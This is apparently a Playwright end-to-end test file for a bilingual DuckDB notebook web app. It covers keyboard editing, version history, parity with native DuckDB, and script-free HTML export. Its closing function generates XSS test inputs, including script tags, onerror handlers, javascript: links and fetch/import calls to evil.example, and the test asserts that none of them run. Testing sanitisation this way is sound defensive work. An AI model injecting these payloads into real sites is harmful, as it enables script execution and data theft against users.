import {mkdtempSync, readFileSync, rmSync, writeFileSync} from "node:fs";
import {tmpdir} from "node:os";
import {join} from "node:path";
import {pathToFileURL} from "node:url";
import {afterAll, beforeAll, describe, expect, it} from "vitest";
import {projectRoot} from "../../loaders/paths.js";
import {LANGUAGES} from "../../src/lib/language.js";
import {inTurn} from "../fixtures/share.js";
import {notebookFragment, notebookIdle, numbersOf, phasesOf} from "./notebook-page.js";
import {settled, siteBrowser, type Visit} from "./page.js";
import {nativeLedger} from "./native.js";

const open = siteBrowser();
const native = nativeLedger();

describe.each(inTurn("the notebook", LANGUAGES))("the notebook in %s", (lang) => {
  let visit: Visit;
  beforeAll(async () => {
    visit = await open(`/${lang}/notebook`);
    await settled(visit.page);
  });
  afterAll(() => visit.close());

  it("begins from four points, each of which runs whole", async () => {
    const {page} = visit;
    const points = page.locator(".notebook-list").last().locator("li > button:first-of-type");
    expect(await points.count()).toBe(4);
    for (let i = 0; i < 4; ++i) {
      await points.nth(i).click();
      await notebookIdle(page);
      const phases = await phasesOf(page);
      expect(
        phases.filter((phase) => !phase.endsWith(" fresh")),
        `point ${i}`
      ).toEqual([]);
      await page.getByRole("button", {name: {en: "All notebooks", zh: "全部笔记本"}[lang]}).click();
    }
    expect(visit.problems).toEqual([]);
  });

  it("keeps what was begun, and lists it after a reload", async () => {
    const {page} = visit;
    await page.reload();
    await settled(page);
    await page.locator(".notebook-list").nth(1).waitFor();
    expect(await page.locator(".notebook-list").first().locator("li").count()).toBe(4);
  });

  it("is written by keys alone: a query, a chart of it and an input, taken back and brought again", async () => {
    const {page} = visit;
    await page.evaluate((fragment) => (location.hash = fragment), notebookFragment("# Keys\n"));
    const cell = page.locator(".notebook-cell");
    await cell.first().focus();
    const add = async (downs: number) => {
      await page.keyboard.press("b");
      await page.locator(".action-menu").waitFor();
      for (let i = 0; i < downs; ++i) await page.keyboard.press("ArrowDown");
      await page.keyboard.press("Enter");
      await page.locator(".notebook-source:not([hidden])").waitFor();
      await page.keyboard.press("Escape");
    };
    await add(1);
    await add(2);
    await add(4);
    expect(await cell.count()).toBe(4);
    await page.keyboard.press("Control+Enter");
    await page.locator(".notebook-actions .primary").focus();
    await page.keyboard.press("Enter");
    await notebookIdle(page);
    expect(await phasesOf(page)).toEqual(["text fresh", "sql fresh", "chart fresh", "input fresh"]);
    expect(await page.locator(`.notebook-chart g[aria-label="line"] path`).count()).toBe(1);
    await cell.nth(1).focus();
    await page.keyboard.press("d");
    await page.keyboard.press("d");
    expect((await phasesOf(page))[1]).toMatch(/^chart unsound/);
    await page.keyboard.press("z");
    await notebookIdle(page);
    expect(await phasesOf(page)).toEqual(["text fresh", "sql fresh", "chart fresh", "input fresh"]);
    const versions = page.locator(".notebook-versions");
    await versions.locator("summary").press("Enter");
    await versions.getByRole("button", {name: {en: "Compare", zh: "比较"}[lang]}).press("Enter");
    expect((await versions.locator("ins").allInnerTexts()).join()).toContain("+ ```sql");
    await versions.getByRole("button", {name: {en: "Go back to it", zh: "恢复到此版本"}[lang]}).press("Enter");
    expect(await cell.count()).toBe(1);
    expect(visit.problems).toEqual([]);
  });
});

describe("a notebook that came with a link", () => {
  it("stands unrun with whose it is, runs on a click, and answers as native DuckDB does", async () => {
    const text = readFileSync(join(projectRoot, "test/fixtures/notebook/parity.md"), "utf8");
    const visit = await open(`/en/notebook${notebookFragment(text)}`);
    const {page} = visit;
    await page.locator(".notebook-cell").first().waitFor();
    expect(await page.locator(".address-notice").innerText()).toContain("nothing runs until you press Run all");
    expect(visit.requests.some((url) => url.endsWith(".duckdb"))).toBe(false);
    expect((await phasesOf(page)).filter((phase) => phase.endsWith("fresh"))).toEqual([]);
    await page.getByRole("button", {name: "Run all"}).click();
    await notebookIdle(page);
    expect((await phasesOf(page)).filter((phase) => !phase.endsWith("fresh"))).toEqual([]);
    const {rows} = await native(
      "SELECT tokens FROM usage_weekly_by_country WHERE country = 'CN' AND week_start = DATE '2026-02-16'"
    );
    expect((await numbersOf(page))[0]).toContain(`${rows[0]?.[0] ?? ""} `);
    await page.locator(".notebook select").selectOption("US");
    await notebookIdle(page);
    const us = await native(
      "SELECT tokens FROM usage_weekly_by_country WHERE country = 'US' AND week_start = DATE '2026-02-16'"
    );
    await page
      .locator(`data[value="${us.rows[0]?.[0] ?? ""}"]`)
      .first()
      .waitFor();
    expect(visit.problems).toEqual([]);
    await visit.close();
  });

  it("is taken as one document without scripts that opens from a disk with the same numbers, and as SQL", async () => {
    const text = readFileSync(join(projectRoot, "test/fixtures/notebook/parity.md"), "utf8");
    const visit = await open(`/en/notebook${notebookFragment(text)}`);
    const {page} = visit;
    await page.getByRole("button", {name: "Run all"}).click();
    await notebookIdle(page);
    const saved = async (name: string) => {
      const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", {name}).click()]);
      return download.path();
    };
    const numbers = await numbersOf(page);
    expect(readFileSync(await saved("Save .md"), "utf8")).toBe(text);
    expect(readFileSync(await saved("Save .sql"), "utf8")).toContain('CREATE OR REPLACE TEMP TABLE "weighted"');
    const html = readFileSync(await saved("Save .html"), "utf8");
    expect(html).not.toMatch(/<script|<button|<textarea|\son\w+=/i);
    const still = await page.context().newPage();
    const folder = mkdtempSync(join(tmpdir(), "still-"));
    writeFileSync(join(folder, "parity.html"), html);
    await still.goto(pathToFileURL(join(folder, "parity.html")).href);
    const shown = await still.evaluate(() =>
      [...document.querySelectorAll("data[data-source]")].map(
        (data) => `${data.getAttribute("value") ?? ""} ${data.textContent}`
      )
    );
    expect(shown).toEqual(numbers);
    expect(await still.locator("svg").count()).toBeGreaterThan(0);
    await still.setViewportSize({width: 360, height: 740});
    expect(await still.evaluate(() => [document.documentElement.scrollWidth, document.body.innerText])).toEqual([
      360,
      expect.not.stringContaining("up to date")
    ]);
    rmSync(folder, {recursive: true});
    await visit.close();
  });

  it("does nothing of what hostile ones ask for", async () => {
    const visit = await open("/en/notebook");
    const {page} = visit;
    await settled(page);
    for (const text of hostileNotebooks()) {
      await page.evaluate((fragment) => (location.hash = fragment), notebookFragment(text));
      const found = await page.evaluate(() => ({
        pwned: "pwned" in window,
        elements: [
          ...document.querySelectorAll(
            "main .notebook :is(script, iframe, object, embed, form, base, link, style, svg script)"
          )
        ].length,
        handlers: [...document.querySelectorAll("main .notebook *")].filter((element) =>
          element.getAttributeNames().some((name) => name.startsWith("on"))
        ).length,
        addresses: [...document.querySelectorAll("main .notebook :is(a[href], img[src])")].filter((element) =>
          /^\s*(javascript|data:text|vbscript)/i.test(element.getAttribute("href") ?? element.getAttribute("src") ?? "")
        ).length
      }));
      expect(found, text).toEqual({pwned: false, elements: 0, handlers: 0, addresses: 0});
    }
    expect(visit.requests.some((url) => url.endsWith(".duckdb"))).toBe(false);
    expect(visit.problems).toEqual([]);
    await visit.close();
  });
});

/** Two hundred texts that try to run, fetch or show what a notebook must not. */
function hostileNotebooks(): string[] {
  const run = [
    "window.pwned=1",
    "fetch('https://evil.example/x')",
    "document.body.remove()",
    "import('https://evil.example/x.js')"
  ];
  const shapes = [
    (code: string) => `<script>${code}</script>`,
    (code: string) => `<img src=x onerror="${code}">`,
    (code: string) => `[x](javascript:${encodeURIComponent(code)})`,
    (code: string) => `<svg onload="${code}"><script>${code}</script></svg>`,
    (code: string) => `\`\`\`js\n${code}\n\`\`\``,
    (code: string) => `\`\`\`html\n<script>${code}</script>\n\`\`\``,
    (code: string) => `\${${code}}`,
    (code: string) => `![x](https://evil.example/${encodeURIComponent(code)}.png)`,
    (code: string) => `---js\n${code}\n---\n# x`,
    (code: string) =>
      `\`\`\`chart\nfrom: a\nmark: line\nx: "</text><script>${code}</script>"\ny: b\ntitle: <img src=x onerror=${code}>\n\`\`\``
  ];
  const places = [
    (text: string) => text,
    (text: string) => `> ${text.replaceAll("\n", "\n> ")}`,
    (text: string) => `- ${text.replaceAll("\n", "\n  ")}`,
    (text: string) => `::: en\n${text}\n:::`,
    (text: string) =>
      `\`\`\`input id=a\nkind: choice\nlabel: ${text.replaceAll("\n", " ")}\noptions: ${text.replaceAll("\n", " ")}\n\`\`\``
  ];
  return shapes.flatMap((shape) => run.flatMap((code) => places.map((place) => `${place(shape(code))}\n`)));
}
